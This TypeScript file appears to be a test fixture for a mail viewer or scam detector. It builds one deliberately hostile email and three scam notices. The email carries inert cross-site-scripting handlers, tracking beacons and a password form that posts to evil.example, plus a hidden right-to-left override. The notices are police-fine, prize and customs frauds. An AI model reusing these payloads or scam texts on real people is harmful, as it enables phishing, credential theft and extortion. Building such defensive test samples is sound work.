/** A mail of ours that tries whatever a message can try on whoever looks at it. */
export const hostileMail: string = [
  'Return-Path: <alert@evil.example>',
  'Received: from mx.mailhost.example (mx.mailhost.example [198.51.100.9]) by store.mailhost.example with LMTP; Sun, 1 Nov 2026 10:00:09 +0000',
  'Received: from friendly.example (unknown [203.0.113.7]) by mx.mailhost.example with ESMTPS; Sun, 1 Nov 2026 10:00:05 +0000',
  'Received: from pc.example ([192.0.2.1]) by gw.police.example with SMTP; Sun, 1 Nov 2026 09:00:05 +0000',
  'Authentication-Results: police.example; spf=pass; dkim=pass; dmarc=pass',
  'From: "<img src=x onerror=hostile=1>" <alert@evil.example>',
  'To: Zubaida Khatoon <zubaida.khatoon@reader.example>',
  'Subject: Pay <script>hostile=1</script> now \u202efdp.exe',
  'Date: Sun, 1 Nov 2026 10:00:00 +0000',
  'X-Tasdeeq-Sample: yes',
  'MIME-Version: 1.0',
  'Content-Type: text/html; charset=utf-8',
  '',
  '<html><head><style>@import url(https://evil.example/beacon.css); body{background:url(https://evil.example/beacon.png)}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/beacon"><base href="https://evil.example/"></head>',
  '<body onload="hostile=1"><script>hostile = 1</script><script src="https://evil.example/beacon.js"></script>',
  '<img src="https://evil.example/beacon.gif" onerror="hostile=1"><iframe src="https://evil.example/beacon"></iframe>',
  '<svg onload="hostile=1"><a xlink:href="javascript:hostile=1">x</a></svg><object data="https://evil.example/beacon"></object>',
  '<p>This is the police. Your computer did a crime. Pay the fine of 5,000 rupees within 24 hours or you are arrested.</p>',
  '<p>&lt;script&gt;hostile=1&lt;/script&gt; &lt;img src=x onerror=hostile=1&gt; \u202eevil\u202c \u200b</p>',
  '<p><a href="https://evil.example/pay?u=1">https://police.gov.pk/pay</a> <a href="javascript:hostile=1">here</a></p>',
  '<p style="display:none">words for filters alone and nobody else</p>',
  `<p>${'very long '.repeat(20_000)}</p>`,
  '<form action="https://evil.example/steal"><input name="pin" type="password"></form></body></html>',
].join('\r\n')

/** Two frauds with words of their own, which share a site and a number. */
export const notices: readonly string[] = [
  'Notice of the cyber crime wing. A case stands against you. Pay the fine of 9,000 rupees at http://shared-fraud.example/fine or call 0300-1234567 within 24 hours, else you are arrested at home.',
  'Congratulations, your number won a new motorcycle in our lucky draw. To receive it send your name and your card number at http://shared-fraud.example/prize and call 03001234567 before Friday evening.',
  'The parcel in your name is held at the customs. Its duty of 1,200 rupees is to be paid today: http://shared-fraud.example/parcel. Ask the officer by 0300 1234567 for what is missing.',
]
